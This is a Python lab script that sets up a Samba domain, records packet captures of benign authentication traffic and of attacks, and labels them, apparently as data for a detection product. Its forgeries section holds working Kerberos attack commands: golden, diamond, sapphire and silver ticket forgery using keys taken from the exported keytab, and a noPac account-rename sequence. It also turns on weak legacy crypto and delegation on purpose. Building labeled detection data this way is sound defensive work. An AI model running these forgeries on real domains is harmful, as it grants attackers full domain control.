#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""sealed.py - captures of what is sealed, and the keytab that opens them, made in the lab (docs/keytab.md).

    sealed.py --out DIRECTORY [--dc2] [--only PATTERN] [--directory BUILD/tests]

Writes into DIRECTORY: NAME.pcap of each scene below, as dc1's port had it; `lab.keytab`, with every key that the domain had
meanwhile; `labels.tsv`; what the tools said, in NAME.txt; and, by the test programs of that build,
`directory.ndjson`, the directory for `picket-center replay --entities`.
"""
import argparse
import json
import os
import re
import shlex
import signal
import struct
import subprocess
import sys
import time

import lab
import scenes
from scenes import ADMIN, Scene

HERE = os.path.dirname(os.path.abspath(__file__))
KEYTAB = lab.PLACE + "/lab.keytab"
FORGE = "%s %s %s" % (lab.PYTHON, shlex.quote(HERE + "/forge.py"), KEYTAB)
RPC = "%s %s" % (lab.PYTHON, shlex.quote(HERE + "/rpc_scene.py"))
USER = "-U'CORP\\user01%User.Pass01!' --use-kerberos=off"

CHANNEL = "NETLOGON-secure-channel"
# The domain controller offers encryption, and takes what old clients have.
SETTINGS = "server smb encrypt = default\n\treject md5 clients = no\n\tallow nt4 crypto = yes\n"


def prepare(l):
    """What the scenes need beside what the lab's domain has."""
    path = os.path.join(l.dc1.place, "etc", "smb.conf")
    with open(path) as f:
        text = f.read()
    with open(path, "w") as f:
        f.write(text.replace("server smb encrypt = off\n", SETTINGS))
    for name, types in (("krc4", "4"), ("kaes128", "8"), ("kaes256", "16")):
        l.dc1.must(["samba-tool", "user", "create", name, "Etype.Pass1!"])
        l.dc1.modify("dn: CN=%s,CN=Users,%s\nchangetype: modify\nreplace: msDS-SupportedEncryptionTypes\n"
                     "msDS-SupportedEncryptionTypes: %s\n" % (name, lab.BASE, types))
    l.dc1.must(["samba-tool", "user", "create", "maiden", "Marriage.1!"])
    l.dc1.must(["samba-tool", "user", "rename", "maiden", "--samaccountname=married", "--upn=married@" + lab.DOMAIN])
    # svc_web may act for anybody at the controller's shares
    l.dc1.modify("dn: CN=svc_web,OU=Services,%s\nchangetype: modify\nreplace: userAccountControl\nuserAccountControl: %d\n-\n"
                 "replace: msDS-AllowedToDelegateTo\nmsDS-AllowedToDelegateTo: cifs/dc1.corp.example\n" %
                 (lab.BASE, 0x200 | 0x10000 | 0x1000000))
    allow_certificates(l)
    l.dc1.must(["samba-tool", "computer", "create", "NOPAC"])
    l.dc1.must(["samba-tool", "user", "setpassword", "NOPAC$", "--newpassword=No.Pac.123!"])
    l.dc1.stop()
    l.dc1.start()
    l.dc1.named()
    if l.dc2:
        l.level()


CERTIFICATE = """
[extensions]
basicConstraints = CA:FALSE
keyUsage = digitalSignature, keyEncipherment, keyAgreement
extendedKeyUsage = %(purpose)s
subjectAltName = otherName:1.3.6.1.5.2.2;SEQUENCE:principal
[principal]
realm = EXP:0, GeneralString:CORP.EXAMPLE
name = EXP:1, SEQUENCE:name
[name]
type = EXP:0, INTEGER:1
parts = EXP:1, SEQUENCE:parts
[parts]
"""


def certify(path, purpose, *principal):
    """A certificate of the lab's authority for a principal (RFC 4556): path.pem and path.key."""
    parts = "".join("part%d = GeneralString:%s\n" % pair for pair in enumerate(principal))
    with open(path + ".ext", "w") as f:
        f.write(CERTIFICATE % {"purpose": purpose} + parts)
    authority = lab.PLACE + "/ca"
    quiet = dict(check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    subprocess.run(["openssl", "req", "-newkey", "rsa:2048", "-nodes", "-keyout", path + ".key", "-subj", "/CN=" + principal[0],
                    "-out", path + ".csr"], **quiet)
    subprocess.run(["openssl", "x509", "-req", "-in", path + ".csr", "-CA", authority + ".pem", "-CAkey", authority + ".key",
                    "-CAcreateserial", "-days", "3650", "-out", path + ".pem", "-extensions", "extensions", "-extfile",
                    path + ".ext"], **quiet)


def allow_certificates(l):
    """The KDC takes certificates in the place of passwords."""
    certify(lab.PLACE + "/kdc", "1.3.6.1.5.2.3.5", "krbtgt", "CORP.EXAMPLE")
    certify(lab.PLACE + "/user", "1.3.6.1.5.2.3.4", "user01")
    with open(l.krb5_config, "a") as f:
        f.write(" enable-pkinit = yes\n pkinit_identity = FILE:%s/kdc.pem,%s/kdc.key\n pkinit_anchors = FILE:%s\n"
                " pkinit_principal_in_certificate = yes\n" % (lab.PLACE, lab.PLACE, l.ca_file))


def ntlm():
    yield "k01_ldap_ntlm_seal", "LDAP-search", ["user01"], (
        "ldbsearch -H ldap://$DC %s --option='client ldap sasl wrapping=seal' -b $DN '(sAMAccountName=user07)' mail" % USER)
    yield "k02_ldap_ntlm_sign", "LDAP-search", ["user01"], (
        "ldbsearch -H ldap://$DC %s --option='client ldap sasl wrapping=sign' -b $DN '(sAMAccountName=user07)' mail" % USER)
    for number, name, options in ((3, "tcp_seal", "ncacn_ip_tcp:$DC[seal]"), (4, "np_seal", "ncacn_np:$DC[seal]"),
                                  (5, "np_sign", "ncacn_np:$DC[sign]")):
        yield "k%02d_rpc_ntlm_%s" % (number, name), "RPC-lookup", ["user01"], (
            "rpcclient %s \"%s\" -c 'lookupnames user07'" % (USER, options))
    # What was negotiated for shorter keys, for none exchanged, and for NTLMv1 with and without session security.
    old = "--option='client ntlmv2 auth=no' --option='client use spnego=no'"
    for number, name, options in ((6, "56", "--option=ntlmssp_client:128bit=no"),
                                  (7, "40", "--option=ntlmssp_client:128bit=no --option=ntlmssp_client:56bit=no"),
                                  (8, "no_exchange", "--option=ntlmssp_client:keyexchange=no"),
                                  (9, "v1_session", old),
                                  (10, "v1", old + " --option=ntlmssp_client:ntlm2=no")):
        yield "k%02d_ntlm_%s" % (number, name), "RPC-lookup", ["user01"], (
            "rpcclient %s %s 'ncacn_np:'$DC'[seal]' -c 'lookupnames user07'; ldbsearch -H ldap://$DC %s %s -b $DN "
            "--option='client ldap sasl wrapping=seal' '(sAMAccountName=user07)' mail" % (USER, options, USER, options))


def kerberos():
    enter = "ticket user01 'User.Pass01!'; "
    for number, name, options in ((20, "tcp_seal", "ncacn_ip_tcp:$DC[seal]"), (21, "np_sign", "ncacn_np:$DC[sign]"),
                                  (22, "krb5_seal", "ncacn_np:$DC[krb5,seal]"), (23, "krb5_sign", "ncacn_np:$DC[krb5,sign]")):
        yield "k%02d_rpc_%s" % (number, name), "RPC-lookup", ["user01"], (
            enter + "rpcclient --use-krb5-ccache=$KRB5CCNAME \"%s\" -c 'lookupnames user07'" % options)
    yield "k24_ldap_gssapi_sign", "LDAP-search", ["user01"], (
        enter + "search -Y GSSAPI -O minssf=1,maxssf=1 '(sAMAccountName=user07)' mail")
    yield "k25_ldap_spnego", "LDAP-search", ["user01"], enter + "search -Y GSS-SPNEGO '(sAMAccountName=user07)' mail"
    for number, name in ((26, "arcfour-hmac"), (27, "aes128-cts-hmac-sha1-96")):
        yield "k%02d_session_%s" % (number, name.split("-")[0]), "LDAP-search", ["user01"], (
            "sed 's/^.libdefaults./&\\n default_tgs_enctypes = %s\\n permitted_enctypes = %s aes256-cts/' $KRB5_CONFIG >$W/k.conf; "
            "%s KRB5_CONFIG=$W/k.conf kvno -e %s ldap/$DC cifs/$DC; export KRB5_CONFIG=$W/k.conf; search -Y GSSAPI "
            "'(sAMAccountName=user07)' mail; search -Y GSS-SPNEGO -O minssf=1,maxssf=1 '(sAMAccountName=user08)' mail; "
            "rpcclient --use-krb5-ccache=$KRB5CCNAME \"ncacn_np:$DC[seal]\" -c 'lookupnames user07'" % (name, name, enter, name))
    yield "k28_starttls", "LDAP-StartTLS", ["user01"], (
        "export LDAPTLS_REQCERT=never; search -ZZ -x -D user01@corp.example -w 'User.Pass01!' '(sAMAccountName=user07)' mail")
    yield "k29_pkinit", "AS-exchange", ["user01"], (
        "kinit -X X509_user_identity=FILE:%s/user.pem,%s/user.key -X X509_anchors=FILE:%s/ca.pem user01; kvno ldap/$DC; search "
        "-Y GSSAPI '(sAMAccountName=user07)' mail" % ((lab.PLACE,) * 3))


def accounts():
    for number, name in ((30, "krc4"), (31, "kaes128"), (32, "kaes256")):
        yield "k%02d_user_%s" % (number, name[1:]), "AS-exchange", [name], (
            "ticket %s 'Etype.Pass1!'; search -Y GSSAPI '(sAMAccountName=user07)' mail" % name)
    yield "k33_renamed", "AS-exchange", ["married"], "ticket married 'Marriage.1!'; kvno ldap/$DC"
    yield "k34_armor", "FAST", ["user01", "WS01$"], (
        "ticket 'WS01$' 'Computer.Pass01!' -c $W/armor; ticket user01 'User.Pass01!' -T $W/armor; kvno ldap/$DC")
    yield "k35_armor_wrong", "FAST", ["user02", "WS01$"], (
        "ticket 'WS01$' 'Computer.Pass01!' -c $W/armor; ticket user02 oops -T $W/armor; ticket user02 'User.Pass02!' -T $W/armor")
    yield "k36_user_to_user", "user-to-user", ["user01", "svc_web"], (
        "ticket svc_web 'Iis.Service9!' -c $W/other; ticket user01 'User.Pass01!'; kvno --u2u $W/other svc_web")
    yield "k37_delegation", "delegation", ["svc_web"], (
        "ticket svc_web 'Iis.Service9!' -f; kvno --out-cache $W/s4u -U user02 -P cifs/$DC; smbclient --use-krb5-ccache=$W/s4u "
        "//$DC/sysvol -c ls")
    yield "k38_kpasswd", "password-change", ["user06"], (
        "printf 'User.Pass06!\\nNew.User06!x\\nNew.User06!x\\n' | kpasswd user06")
    yield "k39_kpasswd_set", "password-reset", [ADMIN], (
        "net ads password user09@CORP.EXAMPLE 'Set.User09!x' -U$ADMIN -S $DC; ticket user09 'Set.User09!x'")
    yield "k40_key_version", "AS-exchange", ["user10"], (
        "ticket user10 'User.Pass10!'; kvno ldap/$DC; ticket %s %s -c $W/admin; printf 'dn: CN=svc_backup,OU=Services,%%s\\n"
        "changetype: modify\\nreplace: unicodePwd\\nunicodePwd:: %%s\\n' $DN $(printf '\"Backup.New88!\"' | iconv -t UTF-16LE | "
        "base64 -w0) >$W/set; kvno backup/bk01.corp.example; KRB5CCNAME=$W/admin ldif -Y GSSAPI -f $W/set; ticket user10 "
        "'User.Pass10!'; kvno backup/bk01.corp.example" % (ADMIN, lab.PASSWORD))


def channels():
    yield "k50_join", "domain-join", [ADMIN, "WSNEW$"], (
        "printf '[global]\\nworkgroup=CORP\\nrealm=CORP.EXAMPLE\\nsecurity=ads\\nnetbios name=WSNEW\\nidmap config * : range = "
        "10000-20000\\n' >/etc/samba/smb.conf; mkdir -p /var/lib/samba/private /run/samba; net ads join -U$ADMIN "
        "--no-dns-updates")
    yield "k51_testjoin", CHANNEL, ["WSNEW$"], "net rpc testjoin"
    yield "k52_winbind", CHANNEL, ["WSNEW$"], "winbindd -D >/dev/null 2>&1; for i in 1 2 3 4 5 6 7 8; do wbinfo -p && break; sleep 1; done"
    yield "k53_trust", CHANNEL, ["WSNEW$", "user01"], "wbinfo -t; wbinfo -a 'CORP\\user01%User.Pass01!'"
    yield "k54_trust_change", CHANNEL, ["WSNEW$", "user02"], (
        "wbinfo -c; wbinfo -t; wbinfo -a 'CORP\\user02%User.Pass02!'; kill $(cat /run/samba/winbindd.pid)")
    yield "k56_netlogon_arcfour", CHANNEL, ["WS01$"], RPC + " channel \"ncacn_ip_tcp:$DC[schannel,seal]\" WS01 'Computer.Pass01!'"
    yield "k55_tsig", "DNS-update", ["WS01$"], (
        "ticket 'WS01$' 'Computer.Pass01!'; printf 'server dc1.corp.example\\nzone corp.example\\nupdate add ws01.corp.example 900 "
        "A 10.1.2.2\\nsend\\nupdate delete ws01.corp.example A\\nsend\\n' >$W/u; nsupdate -g $W/u; nsupdate -v -g $W/u")


def files():
    ways = (("kerberos", "--use-krb5-ccache=$KRB5CCNAME"), ("ntlm", USER))
    number = 60
    for cipher in ("AES-128-GCM", "AES-128-CCM", "AES-256-GCM", "AES-256-CCM"):
        for way, options in ways:
            yield "k%02d_smb_%s_%s" % (number, cipher.lower().replace("-", ""), way), "SMB-file", ["user01"], (
                "ticket user01 'User.Pass01!'; smbclient %s //$DC/sysvol --client-protection=encrypt "
                "--option='client smb3 encryption algorithms=%s' -c 'ls; cd corp.example; ls'" % (options, cipher))
            number += 1
    for algorithm in ("AES-128-GMAC", "AES-128-CMAC", "HMAC-SHA256"):
        for way, options in ways:
            yield "k%02d_sign_%s_%s" % (number, algorithm.lower().replace("-", ""), way), "SMB-file", ["user01"], (
                "ticket user01 'User.Pass01!'; smbclient %s //$DC/sysvol --client-protection=sign "
                "--option='client smb3 signing algorithms=%s' -c 'ls; cd corp.example; ls'" % (options, algorithm))
            number += 1
    for dialect in ("SMB3_02", "SMB3_00", "SMB2_10"):
        yield "k%02d_%s" % (number, dialect.lower()), "SMB-file", ["user01"], (
            "ticket user01 'User.Pass01!'; smbclient --use-krb5-ccache=$KRB5CCNAME //$DC/sysvol -m %s "
            "--client-protection=%s -c 'ls; cd corp.example; ls'" % (dialect, "sign" if dialect == "SMB2_10" else "encrypt"))
        number += 1


def elsewhere():
    """Lawful tickets that the other controller issued, which is not watched: nothing may be thought of them."""
    there = "sed '/kdc = 10.1.1.2$/d' $KRB5_CONFIG >$W/there; there() { KRB5_CONFIG=$W/there \"$@\"; }; "
    use = "; kvno cifs/$DC; search -Y GSSAPI -s base dn"
    user = "there ticket %s '%s' %s"
    yield "k79_here", "AS-exchange", ["user%02d" % n for n in range(21, 25)], (
        "for n in 21 22 23 24; do ticket user$n \"User.Pass$n!\"" + use + "; done")
    for number, name, who, password, more in (
            (80, "user", "user01", "User.Pass01!", "-f -r 7d"), (81, "administrator", ADMIN, lab.PASSWORD, ""),
            (82, "computer", "WS01$", "Computer.Pass01!", ""), (83, "an_hour", "user03", "User.Pass03!", "-l 1h"),
            (84, "canonical", "user04", "User.Pass04!", "-C"), (85, "domain_admin", "dadmin", "Dadmin.Pass1!", "-p")):
        yield "k%02d_%s" % (number, name), "AS-exchange", [who], there + user % (who, password, more) + use
    yield "k86_upn", "AS-exchange", ["user05"], there + "printf 'User.Pass05!\\n' | there kinit -E user05@corp.example" + use
    yield "k87_renewed", "AS-exchange", ["user06"], there + user % ("user06", "User.Pass06!", "-r 7d") + "; sleep 3; there kinit -R" + use
    yield "k88_services", "AS-exchange", ["user07"], (
        there + user % ("user07", "User.Pass07!", "") + "; there kvno cifs/$DC ldap/$DC; search -Y GSSAPI -s base dn; smbclient "
        "--use-krb5-ccache=$KRB5CCNAME //$DC/sysvol -c ls")
    yield "k89_delegation", "delegation", ["svc_web"], (
        there + user % ("svc_web", "Iis.Service9!", "-f") + "; there kvno --out-cache $W/s4u -U user02 -P cifs/$DC; smbclient "
        "--use-krb5-ccache=$W/s4u //$DC/sysvol -c ls")
    yield "k90_armor", "FAST", ["user08", "WS02$"], (
        there + "there ticket 'WS02$' 'Computer.Pass02!' -c $W/armor; " + user % ("user08", "User.Pass08!", "-T $W/armor") + use)
    yield "k91_new_password", "password-reset", [ADMIN, "user11"], (
        there + "samba-tool user setpassword user11 --newpassword='Other.Pass11!' -H ldap://dc2.corp.example -U$ADMIN; " +
        user % ("user11", "Other.Pass11!", "") + use)
    yield "k93_controller", "AS-exchange", ["DC2$"], there + "there kinit -k -t %s 'DC2$'" % KEYTAB + use
    yield "k92_replication", "DRS-replication", [ADMIN], "samba-tool drs replicate $DC dc2.corp.example $DN -U$ADMIN"


def forgeries(sid):
    """By impacket as it is (but for the key's version, which Samba has as 1), and by templates, which fit better."""
    key = "key() { klist -keK %s | sed -n \"s/.* $1@.*$2.*(0x\\(.*\\))/\\1/p\" | tail -1; }; " % KEYTAB
    make = key + "sed \"s/\\['kvno'\\] = 2/['kvno'] = 1/\" %s/ticketer.py >$W/ticketer.py; ticketer() { timeout 20 %s " \
        "$W/ticketer.py -domain-sid %s -domain CORP.EXAMPLE \"$@\"; }; " % (scenes.IMPACKET, lab.PYTHON, sid)
    template = "ticket user01 'User.Pass01!' -f -r 7d; "
    use = "kvno cifs/$DC; search -Y GSSAPI -s base dn"
    forge = FORGE + " krbtgt $KRB5CCNAME $W/forged "
    forged = "; export KRB5CCNAME=$W/forged; " + use
    yield "f01_golden_ticketer", "golden-ticket", [ADMIN], (
        make + "ticketer -aesKey $(key krbtgt aes256) Administrator; export KRB5CCNAME=$W/Administrator.ccache; " + use)
    yield "f02_golden_ghost", "golden-ticket", ["ghost"], template + forge + "as=ghost:4321 groups=512" + forged
    yield "f03_golden_template", "golden-ticket", [ADMIN], template + forge + "as=Administrator:500 groups=512,518,519,520" + forged
    yield "f04_golden_years", "golden-ticket", [ADMIN], template + forge + "as=Administrator:500 years=10" + forged
    yield "f05_diamond", "diamond-ticket", ["user01"], template + forge + "groups=512,519" + forged
    yield "f06_diamond_extra_sid", "diamond-ticket", ["user01"], template + forge + "extra=%s-519" % sid + forged
    yield "f12_diamond_controller", "diamond-ticket", ["user01"], template + forge + "groups=516 extra=S-1-5-9" + forged
    yield "f13_diamond_history", "diamond-ticket", ["user01"], template + forge + "extra=%s-500" % sid + forged
    yield "f07_sapphire", "sapphire-ticket", ["svc_web"], (
        "ticket svc_web 'Iis.Service9!' -f; kvno --out-cache $W/s4u -U dadmin svc_web; " + forge + "pac=$W/s4u:svc_web" +
        forged)
    yield "f08_silver_ticketer", "silver-ticket", [ADMIN], (
        make + "ticketer -nthash $(key 'DC1\\$' arcfour) -spn cifs/$DC Administrator; export "
        "KRB5CCNAME=$W/Administrator.ccache; echo shares | impacket smbclient -k -no-pass CORP.EXAMPLE/Administrator@$DC -dc-ip $DC")
    service = template + "kvno ldap/$DC; " + FORGE + " 'DC1$' $KRB5CCNAME $W/forged "
    use_service = "; KRB5CCNAME=$W/forged search -Y GSSAPI -s base dn"
    yield "f09_silver_template", "silver-ticket", ["user01"], service + "groups=512,519 unsigned" + use_service
    yield "f10_silver_administrator", "silver-ticket", [ADMIN], service + "as=Administrator:500 groups=512" + use_service
    rename = "printf 'dn: CN=NOPAC,CN=Computers,%%s\\nchangetype: modify\\nreplace: sAMAccountName\\nsAMAccountName: %s\\n' $DN | as_dadmin; "
    yield "f11_nopac", "sAMAccountName-spoof", ["dadmin", "NOPAC$"], (
        rename % "DC1" + "ticket DC1 'No.Pac.123!'; " + rename % "NOPAC$" + "kvno -U dadmin DC1; kvno ldap/$DC")


def everything(sid, dc2):
    lawful = elsewhere() if dc2 else (*ntlm(), *kerberos(), *accounts(), *channels(), *files())
    for host, kind, part in (("client", "benign", lawful), ("attacker", "attack", forgeries(sid))):
        for name, technique, who, script in part:
            yield Scene(name, host, who, script), kind, technique


def capture(l, scene, out):
    """The scene, with all that passes dc1's port meanwhile."""
    path = os.path.join(out, scene.name + ".pcap")
    tcpdump = l.spawn("sensor", ["tcpdump", "-Z", "root", "-i", "span0", "-s", "0", "--immediate-mode", "-U", "-w", path],
                      stdin=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    while "listening on" not in tcpdump.stderr.readline():
        if tcpdump.poll() is not None:
            raise lab.LabError("tcpdump ended: %d" % tcpdump.returncode)
    said = scenes.play(l, scene)
    time.sleep(0.5)
    tcpdump.send_signal(signal.SIGINT)
    tcpdump.communicate(timeout=30)
    with open(os.path.join(out, scene.name + ".txt"), "w") as f:
        f.write(said)
    return os.path.getsize(path)


def entries_of(keytab):
    """Of a keytab in MIT's format, version 0x502, each with its length before it; without the time of its making."""
    at, found = 2, []
    while at + 4 <= len(keytab):
        end = at + 4 + struct.unpack_from(">i", keytab, at)[0]
        made = at + 6
        for _ in range(1 + struct.unpack_from(">H", keytab, at + 4)[0]):     # the realm and the parts of the name
            made += 2 + struct.unpack_from(">H", keytab, made)[0]
        made += 4                                                           # its type
        found.append(keytab[at:made] + bytes(4) + keytab[made + 4:end])
        at = end
    return found


def export_keys(l, out):
    """Adds the keys that the domain has now: samba-tool begins the file anew each time."""
    l.dc1.must(["samba-tool", "domain", "exportkeytab", KEYTAB])
    path = os.path.join(out, "lab.keytab")
    before = open(path, "rb").read() if os.path.exists(path) else b"\5\2"
    with open(KEYTAB, "rb") as f:
        known = set(entries_of(before))
        more = [e for e in entries_of(f.read()) if e not in known]
    with open(path, "wb") as f:
        f.write(before + b"".join(more))


def write_directory(l, out, programs):
    """What a node knows of the domain, as its store has it."""
    store = lab.PLACE + "/store"
    process = l.spawn("sensor", [programs + "/picket-replicate", lab.DOMAIN, "%s@%s" % (lab.SYNCHRONIZER, lab.REALM), l.keytab,
                                 store, l.dc1.host_name], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    for line in process.stdout:
        if json.loads(line)["full_pass_ended"]:
            break
    process.terminate()
    process.communicate(timeout=30)
    dump = subprocess.run([programs + "/picket-store-dump", store], stdout=subprocess.PIPE, check=True).stdout
    lines = [json.loads(line) for line in dump.splitlines()]
    lines = [line for line in lines if line["entity"]["kind"] in ("partition", "domain", "user", "group", "computer")]
    links = [{"source": line["entity"]["guid"], "link": link, "all": targets} for line in lines
             for link, targets in line["links"].items()]
    with open(os.path.join(out, "directory.ndjson"), "w") as f:
        for line in [{"entity": line["entity"]} for line in lines] + [{"links": link} for link in links] + [{"whole": lab.DOMAIN}]:
            f.write(json.dumps(line, ensure_ascii=False) + "\n")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--out", required=True)
    parser.add_argument("--only", default="")
    parser.add_argument("--dc2", action="store_true", help="two controllers, of which one is watched: other scenes")
    parser.add_argument("--directory", help="the folder of picket-replicate and picket-store-dump")
    args = parser.parse_args()
    lab.enter()
    out = os.path.abspath(args.out)
    os.makedirs(out, exist_ok=True)
    if os.path.exists(out + "/lab.keytab"):                 # of another domain
        os.remove(out + "/lab.keytab")
    with lab.Lab(dc2=args.dc2) as l, open(os.path.join(out, "labels.tsv"), "w") as labels:
        prepare(l)
        if args.directory:
            write_directory(l, out, os.path.abspath(args.directory))
        export_keys(l, out)
        print("file", "class", "technique", "account", sep="\t", file=labels)
        sid = re.search(r"S-1-5-21(-\d+){3}", l.dc1.dump(attributes=["cn"], expression="(objectClass=domain)")[0][0]).group()
        for scene, kind, technique in everything(sid, args.dc2):
            if not re.search(args.only, scene.name):
                continue
            size = capture(l, scene, out)
            print(scene.name, kind, technique, ",".join(sorted(scene.accounts)), sep="\t", file=labels)
            export_keys(l, out)
            print("%-32s %7d bytes" % (scene.name, size), flush=True)


if __name__ == "__main__":
    sys.exit(main())
